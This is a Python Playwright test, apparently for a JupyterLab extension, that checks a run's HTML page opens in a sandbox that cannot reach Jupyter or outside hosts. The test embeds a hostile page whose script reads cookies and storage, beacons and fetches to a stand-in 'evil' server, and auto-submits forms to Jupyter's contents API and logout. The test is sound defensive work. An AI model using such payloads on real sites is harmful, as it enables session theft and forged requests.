"""A run's page that wants more than to be looked at."""

from __future__ import annotations

import http.server
import json
import threading
from contextlib import contextmanager
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.browser.screens import Screens

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import BrowserContext

    from tests.support.jupyter import JupyterServer

pytestmark = pytest.mark.full

PAGE = """<body>
<img src="{evil}/image">
<link rel="stylesheet" href="{evil}/style"><link rel="prefetch" href="{evil}/ahead">
<iframe src="{jupyter}/lab"></iframe><object data="{jupyter}/lab"></object>
<form id="form" method="post" action="{jupyter}/api/contents"><input name="a"></form>
<form id="out" target="_top" action="{jupyter}/logout"></form>
<script>
const told = [];
const attempt = (name, act) => {{
  try {{ told.push(`${{name}}=${{act()}}`); }} catch {{ told.push(`${{name}}=refused`); }}
}};
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent", () => parent.document.title);
attempt("opener", () => String(window.opener));
attempt("origin", () => self.origin);
attempt("top", () => {{ top.location = "{evil}/top"; }});
attempt("worker", () => navigator.serviceWorker.register("{evil}/worker"));
attempt("socket", () => void new WebSocket("{evil}/socket".replace("http", "ws")));
attempt("beacon", () => void navigator.sendBeacon("{evil}/beacon", "x"));
for (const form of document.forms) {{ form.submit(); }}
fetch("{evil}/fetch").catch(() => undefined);
fetch("{jupyter}/api/contents").then(() => "read", () => "refused").then(answer => {{
  told.push(`contents=${{answer}}`);
  const shown = document.createElement("pre");
  shown.id = "told";
  shown.textContent = told.join("\\n");
  document.body.append(shown);
}});
</script>"""


class _Ear(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        """Keep what was asked."""
        assert isinstance(self.server, _Elsewhere)
        self.server.heard.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - as the library calls it

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing."""


class _Elsewhere(http.server.ThreadingHTTPServer):
    heard: list[str]


@contextmanager
def elsewhere() -> Iterator[_Elsewhere]:
    """A server that nobody should ask."""
    with _Elsewhere(("127.0.0.1", 0), _Ear) as server:
        server.heard = []
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def test_a_hostile_page_reaches_neither_jupyter_nor_anybody_else(
    context: BrowserContext, jupyter: JupyterServer, pictures: Path
) -> None:
    run = jupyter.root / "hostile" / "evil" / "20270101T000000Z-abcdef"
    run.mkdir(parents=True)
    (run / "report.json").write_text(
        json.dumps({"status": "succeeded", "outputs": {"html": "x", "ipynb": "y"}})
    )
    page = context.new_page()
    page.goto("/lab?reset")
    screens = Screens(page, pictures, "hostile")
    screens.open_panel()
    panel = screens.panel
    panel.get_by_role("tab", name="Results").click()
    panel.get_by_label("Place of the results").fill("hostile")
    panel.get_by_role("button", name="Show", exact=True).click()
    panel.locator("li[data-run]").get_by_role("button").click()

    with elsewhere() as server:
        evil = f"http://127.0.0.1:{server.server_port}"
        (run / "notebook.html").write_text(PAGE.format(evil=evil, jupyter=jupyter.url))
        panel.get_by_role("button", name="Open page").click()
        told = page.locator("iframe[sandbox]").content_frame.locator("#told").inner_text()
        heard = list(server.heard)
    leave = f'<meta http-equiv="refresh" content="0;url={jupyter.url}/logout">'
    (run / "notebook.html").write_text(leave)
    with page.expect_response("**/logout"):
        panel.get_by_role("button", name="Open page").click()

    refused = ("cookie", "storage", "parent", "top", "worker", "contents")
    assert {f"{name}=refused" for name in refused} <= set(told.split("\n"))
    assert {"opener=null", "origin=null"} <= set(told.split("\n"))
    assert heard == []
    assert page.url.startswith(f"{jupyter.url}/lab")
    assert context.request.get("/api/contents").status == 200  # still signed in
    expect(panel).to_be_visible()
